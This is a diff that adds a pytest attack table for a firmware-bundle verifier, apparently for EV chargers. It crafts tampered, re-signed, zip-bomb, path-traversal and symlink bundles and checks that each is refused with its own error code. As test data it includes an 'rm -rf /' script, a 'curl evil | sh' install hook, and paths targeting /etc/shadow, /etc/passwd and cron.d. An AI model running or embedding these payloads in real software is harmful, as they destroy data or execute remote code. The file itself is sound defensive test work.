@@ -1,0 +1,395 @@
+"""Attack table: every way to subvert a bundle, each refused for its own reason.
+
+Each case builds a hostile bundle (or verification context) and names the
+check that must fail and the exact code it must fail with. A case refused for
+the wrong reason fails the test: a bundle rejected "by accident" today can be
+accepted after tomorrow's refactor.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import struct
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fieldkit.bundles.container import BundleContainer
+from fieldkit.bundles.verify import ChargerFacts
+from fieldkit.config import Limits, Settings
+from tests.support.world import NOW, World, iso, with_components
+from tests.support.zipcraft import RawEntry, craft_zip
+
+AC22_C = ChargerFacts(model="VQ-AC22", hardware_revision="C", installed_version="2.3.0", installed_security_version=4)
+
+
+@dataclass
+class Attack:
+    build: Callable[[World], Path]
+    check: str
+    code: str
+    facts: ChargerFacts | None = None
+    now: dt.datetime = NOW
+    settings: Settings | None = None
+    store: Callable[[World], Any] | None = None
+    extra: dict[str, Any] = field(default_factory=dict)
+
+
+def _flip(path: Path, offset: int) -> Path:
+    data = bytearray(path.read_bytes())
+    data[offset] ^= 0x01
+    path.write_bytes(bytes(data))
+    return path
+
+
+def _member_offset(path: Path, name: str) -> int:
+    return BundleContainer.open(path, Limits()).members[name].data_offset
+
+
+def _members(path: Path) -> dict[str, bytes]:
+    container = BundleContainer.open(path, Limits())
+    raw = path.read_bytes()
+    return {m.name: raw[m.data_offset : m.data_offset + m.size_bytes] for m in container.members.values()}
+
+
+def _rebuild(w: World, members: list[tuple[str, bytes]], **entry_options: Any) -> Path:
+    """Write ``members`` as a (possibly non-canonical) ZIP, recomputing CRCs like an attacker would."""
+    w._counter += 1
+    path = w.dir / f"crafted-{w._counter}.fwbundle"
+    path.write_bytes(craft_zip([RawEntry(n, d, **entry_options.get(n, {})) for n, d in members]))
+    return path
+
+
+def tampered_payload(w: World) -> Path:
+    path = w.bundle()
+    return _flip(path, _member_offset(path, "payloads/rootfs") + 100)
+
+
+def tampered_manifest(w: World) -> Path:
+    members = _members(w.bundle())
+    manifest = members["manifest.json"].replace(b'"security_version": 5', b'"security_version": 9')
+    return _rebuild(w, [("manifest.json", manifest), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", members["signatures.json"])])
+
+
+def manifest_byte_flipped_raw(w: World) -> Path:
+    path = w.bundle()
+    return _flip(path, _member_offset(path, "manifest.json") + 10)
+
+
+def missing_signatures(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"])])
+
+
+def copied_signature(w: World) -> Path:
+    other = _members(w.bundle(version="9.9.9", bundle_id="other"))
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", other["signatures.json"])])
+
+
+def manifest_swapped(w: World) -> Path:
+    evil = _members(w.bundle(payloads={"rootfs": b"EVILFS" * 1000}))
+    good = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", good["manifest.json"]), ("payloads/rootfs", evil["payloads/rootfs"]),
+                        ("signatures.json", good["signatures.json"])])
+
+
+def payload_swapped(w: World) -> Path:
+    other = _members(w.bundle(payloads={"rootfs": b"OTHERS" * 1000}))
+    path = w.bundle()
+    data = bytearray(path.read_bytes())
+    offset = _member_offset(path, "payloads/rootfs")
+    data[offset : offset + 6000] = other["payloads/rootfs"]
+    path.write_bytes(bytes(data))
+    return path
+
+
+def with_extra_member(name: str, data: bytes = b"#!/bin/sh\nrm -rf /\n") -> Callable[[World], Path]:
+    def build(w: World) -> Path:
+        members = _members(w.bundle())
+        return _rebuild(w, [("manifest.json", members["manifest.json"]), (name, data),
+                            ("payloads/rootfs", members["payloads/rootfs"]),
+                            ("signatures.json", members["signatures.json"])])
+
+    return build
+
+
+def unreferenced_payload(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/extra", b"x"),
+                        ("payloads/rootfs", members["payloads/rootfs"]), ("signatures.json", members["signatures.json"])])
+
+
+def duplicate_member(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("payloads/rootfs", b"second copy"), ("signatures.json", members["signatures.json"])])
+
+
+def symlink_member(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", b"/etc/shadow"),
+                        ("signatures.json", members["signatures.json"])],
+                    **{"payloads/rootfs": {"external_attr": (0o120777 << 16)}})
+
+
+def deflate_bomb(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", b"\0" * 20_000_000),
+                        ("signatures.json", members["signatures.json"])], **{"payloads/rootfs": {"method": 8}})
+
+
+def compressed_payload(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", members["signatures.json"])], **{"payloads/rootfs": {"method": 8}})
+
+
+def declared_size_bomb(w: World) -> Path:
+    members = _members(w.bundle())
+    path = _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", members["signatures.json"])])
+    # Patch the directory entry of the payload to claim 4 GiB stored in a 6 kB file.
+    data = bytearray(path.read_bytes())
+    cd_offset = struct.unpack_from("<I", data, len(data) - 6)[0]
+    position = cd_offset
+    for _ in range(3):
+        name_len = struct.unpack_from("<H", data, position + 28)[0]
+        if data[position + 46 : position + 46 + name_len] == b"payloads/rootfs":
+            struct.pack_into("<II", data, position + 20, 0xFFFFFFF0, 0xFFFFFFF0)
+        position += 46 + name_len
+    path.write_bytes(bytes(data))
+    return path
+
+
+def overlapping_bomb(w: World) -> Path:
+    members = _members(w.bundle())
+    entries = [RawEntry("manifest.json", members["manifest.json"]),
+               RawEntry("payloads/rootfs", members["payloads/rootfs"]),
+               RawEntry("payloads/alias", members["payloads/rootfs"], offset_override=len(members["manifest.json"]) + 43),
+               RawEntry("signatures.json", members["signatures.json"])]
+    w._counter += 1
+    path = w.dir / f"overlap-{w._counter}.fwbundle"
+    path.write_bytes(craft_zip(entries))
+    return path
+
+
+def truncated(w: World) -> Path:
+    path = w.bundle()
+    data = path.read_bytes()
+    path.write_bytes(data[: len(data) // 2])
+    return path
+
+
+def not_a_zip(w: World) -> Path:
+    path = w.dir / "not-a-zip.fwbundle"
+    path.write_bytes(b"\x7fELF" + b"\0" * 4000)
+    return path
+
+
+def empty(w: World) -> Path:
+    path = w.dir / "empty.fwbundle"
+    path.write_bytes(b"")
+    return path
+
+
+def trailing_data(w: World) -> Path:
+    path = w.bundle()
+    path.write_bytes(path.read_bytes() + b"hidden")
+    return path
+
+
+def prepended_data(w: World) -> Path:
+    path = w.bundle()
+    path.write_bytes(b"MZ" + path.read_bytes())
+    return path
+
+
+def crc_field_altered(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", members["signatures.json"])],
+                    **{"payloads/rootfs": {"crc": zlib.crc32(members["payloads/rootfs"]) ^ 1}})
+
+
+def encrypted_member(w: World) -> Path:
+    members = _members(w.bundle())
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", members["signatures.json"])], **{"payloads/rootfs": {"flags": 1}})
+
+
+def non_canonical_signatures(w: World) -> Path:
+    members = _members(w.bundle())
+    pretty = json.dumps(json.loads(members["signatures.json"]), indent=1).encode()
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", pretty)])
+
+
+def manifest_too_large(w: World) -> Path:
+    payloads = {"rootfs": b"x" * 10}
+    document = w.manifest(payloads, release_notes="A" * (1024 * 1024 + 10))
+    return w.bundle(payloads=payloads, manifest=document)
+
+
+def deeply_nested(w: World) -> Path:
+    payloads = {"rootfs": b"x" * 10}
+    raw = json.dumps(w.manifest(payloads)).encode()
+    raw = raw[:-1] + b', "x": ' + b"[" * 5000 + b"]" * 5000 + b"}"
+    return w.bundle(payloads=payloads, manifest_bytes=raw)
+
+
+def duplicate_json_key(w: World) -> Path:
+    payloads = {"rootfs": b"x" * 10}
+    raw = json.dumps(w.manifest(payloads)).encode()
+    raw = raw[:-1] + b', "security_version": 99}'
+    return w.bundle(payloads=payloads, manifest_bytes=raw)
+
+
+def unknown_schema(w: World) -> Path:
+    return w.bundle(schema_version=2)
+
+
+def unknown_field(w: World) -> Path:
+    payloads = {"rootfs": b"x" * 10}
+    document = w.manifest(payloads)
+    document["post_install_hook"] = "curl evil | sh"
+    return w.bundle(payloads=payloads, manifest=document)
+
+
+def metrology_without_countersignature(w: World) -> Path:
+    payloads = {"meter": b"M" * 100}
+    return w.bundle(payloads=payloads, manifest=with_components(w.manifest(payloads), metrology_relevant=True))
+
+
+def x509_chain(leaf_key_attr: str, leaf_attr: str, **manifest: Any) -> Callable[[World], Path]:
+    def build(w: World) -> Path:
+        leaf_key, leaf = getattr(w, leaf_key_attr), getattr(w, leaf_attr)
+        return w.bundle(signers=[leaf_key], chains={0: [leaf]}, **manifest)
+
+    return build
+
+
+def ocpp_mismatch(w: World) -> Path:
+    payloads = {"app": b"FIRMWARE" * 100}
+    document = with_components(w.manifest(payloads), ocpp=w.ocpp_block(b"OTHER FIRMWARE"))
+    return w.bundle(payloads=payloads, manifest=document)
+
+
+def ocpp_untrusted(w: World) -> Path:
+    payloads = {"app": b"FIRMWARE" * 100}
+    block = w.ocpp_block(payloads["app"], key=w.rogue_leaf_key, cert=w.rogue_leaf)
+    return w.bundle(payloads=payloads, manifest=with_components(w.manifest(payloads), ocpp=block))
+
+
+def signed_by(*attrs: str) -> Callable[[World], Path]:
+    return lambda w: w.bundle(signers=[getattr(w, a) for a in attrs])
+
+
+def wrong_algorithm_label(w: World) -> Path:
+    members = _members(w.bundle())
+    doc = json.loads(members["signatures.json"])
+    doc["signatures"][0]["algorithm"] = "ecdsa-p256-sha256"
+    import rfc8785
+
+    return _rebuild(w, [("manifest.json", members["manifest.json"]), ("payloads/rootfs", members["payloads/rootfs"]),
+                        ("signatures.json", rfc8785.dumps(doc))])
+
+
+ATTACKS: dict[str, Attack] = {
+    "tampered payload byte": Attack(tampered_payload, "payloads", "payload-hash-mismatch"),
+    "tampered manifest byte (CRC recomputed)": Attack(tampered_manifest, "signatures", "bad-signature"),
+    "manifest byte flipped raw": Attack(manifest_byte_flipped_raw, "container", "crc-mismatch"),
+    "signatures.json missing": Attack(missing_signatures, "container", "missing-signatures"),
+    "unsigned bundle": Attack(signed_by(), "signatures", "unsigned"),
+    "signature by unknown key": Attack(signed_by("unknown"), "signatures", "unknown-key"),
+    "signature by revoked key": Attack(signed_by("revoked"), "signatures", "revoked-key"),
+    "signature by expired key": Attack(signed_by("expired"), "signatures", "expired-key"),
+    "signature by key not yet valid": Attack(signed_by("future"), "signatures", "key-not-yet-valid"),
+    "key out of scope": Attack(signed_by("ampero_only"), "authorization", "out-of-scope"),
+    "threshold not met": Attack(
+        signed_by("release"), "signatures", "threshold-not-met",
+        store=lambda w: w.store_with(thresholds={"trust-root": 1, "release": 2, "metrology": 1}),
+    ),
+    "signature copied from another bundle": Attack(copied_signature, "signatures", "bad-signature"),
+    "algorithm label swapped": Attack(wrong_algorithm_label, "signatures", "algorithm-mismatch"),
+    "manifest swapped between bundles": Attack(manifest_swapped, "payloads", "payload-hash-mismatch"),
+    "payload swapped": Attack(payload_swapped, "payloads", "payload-hash-mismatch"),
+    "extra member": Attack(with_extra_member("install.sh"), "container", "unexpected-member"),
+    "extra payload not in manifest": Attack(unreferenced_payload, "payloads", "unreferenced-payload"),
+    "duplicate member names": Attack(duplicate_member, "container", "duplicate-member"),
+    "path traversal ../": Attack(with_extra_member("payloads/../../etc/cron.d/x"), "container", "path-traversal"),
+    "absolute path": Attack(with_extra_member("/etc/passwd"), "container", "absolute-path"),
+    "backslash path": Attack(with_extra_member("payloads\\..\\evil"), "container", "backslash-in-name"),
+    "drive letter": Attack(with_extra_member("C:/Windows/evil.dll"), "container", "drive-letter"),
+    "symlink entry": Attack(symlink_member, "container", "symlink-member"),
+    "zip bomb (deflate)": Attack(deflate_bomb, "container", "compressed-member"),
+    "zip bomb (declared size)": Attack(declared_size_bomb, "container", "member-out-of-bounds"),
+    "zip bomb (overlapping members)": Attack(overlapping_bomb, "container", "overlapping-members"),
+    "compressed payload": Attack(compressed_payload, "container", "compressed-member"),
+    "encrypted member": Attack(encrypted_member, "container", "encrypted-member"),
+    "CRC field altered": Attack(crc_field_altered, "payloads", "crc-mismatch"),
+    "truncated file": Attack(truncated, "container", "truncated"),
+    "not a zip": Attack(not_a_zip, "container", "not-a-zip"),
+    "empty file": Attack(empty, "container", "empty"),
+    "trailing data": Attack(trailing_data, "container", "trailing-data"),
+    "prepended data": Attack(prepended_data, "container", "prepended-data"),
+    "non-canonical signatures.json": Attack(non_canonical_signatures, "signatures", "signatures-non-canonical"),
+    "manifest too large": Attack(manifest_too_large, "manifest", "manifest-too-large"),
+    "deeply nested JSON": Attack(deeply_nested, "manifest", "manifest-too-deep"),
+    "duplicate JSON key": Attack(duplicate_json_key, "manifest", "manifest-duplicate-key"),
+    "unknown schema version": Attack(unknown_schema, "manifest", "unknown-schema-version"),
+    "unknown manifest field": Attack(unknown_field, "manifest", "manifest-invalid"),
+    "expired bundle": Attack(lambda w: w.bundle(), "freshness", "expired", now=dt.datetime(2027, 2, 1, tzinfo=dt.UTC)),
+    "not yet valid beyond skew": Attack(
+        lambda w: w.bundle(created_at=iso(NOW + dt.timedelta(hours=2))), "freshness", "not-yet-valid"
+    ),
+    "downgrade below security_version": Attack(
+        lambda w: w.bundle(security_version=3), "anti-rollback", "downgrade", facts=AC22_C
+    ),
+    "wrong model": Attack(lambda w: w.bundle(), "compatibility", "wrong-model",
+                          facts=ChargerFacts(model="VQ-DC150", hardware_revision="A")),
+    "wrong hardware revision": Attack(lambda w: w.bundle(), "compatibility", "wrong-hardware-revision",
+                                      facts=ChargerFacts(model="VQ-AC22", hardware_revision="A")),
+    "installed version below minimum": Attack(
+        lambda w: w.bundle(), "compatibility", "installed-version-too-old",
+        facts=ChargerFacts(model="VQ-AC22", hardware_revision="C", installed_version="1.9.9"),
+    ),
+    "metrology component without metrology signature": Attack(
+        metrology_without_countersignature, "authorization", "metrology-signature-missing"
+    ),
+    "X.509 chain to an unpinned root": Attack(x509_chain("rogue_leaf_key", "rogue_leaf"), "signatures",
+                                              "untrusted-chain"),
+    "X.509 leaf without codeSigning": Attack(x509_chain("oem_tls_key", "oem_tls_leaf"), "signatures",
+                                             "certificate-usage"),
+    "certificate not valid at signing time": Attack(
+        x509_chain("oem_old_key", "oem_old_leaf"), "authorization", "certificate-not-valid-at-signing-time"
+    ),
+    "OCPP signature mismatch": Attack(ocpp_mismatch, "ocpp-signatures", "ocpp-signature-mismatch"),
+    "OCPP certificate from an unpinned root": Attack(ocpp_untrusted, "ocpp-signatures", "ocpp-certificate-untrusted"),
+}
+
+
+def test_the_table_is_big_enough() -> None:
+    assert len(ATTACKS) >= 30
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_attack_is_refused_for_its_reason(world: World, name: str) -> None:
+    attack = ATTACKS[name]
+    path = attack.build(world)
+    store = attack.store(world) if attack.store else None
+    report = world.verify(path, attack.facts, store=store, now=attack.now, settings=attack.settings)
+    failure = report.failure
+    assert failure is not None, f"{name}: accepted"
+    assert (failure.name, failure.code) == (attack.check, attack.code), f"{name}: {failure}"
+    assert failure.message and failure.hint
+    # Nothing after a failure is reported as passed.
+    after = report.checks[report.checks.index(failure) + 1 :]
+    assert all(c.status == "skipped" for c in after)
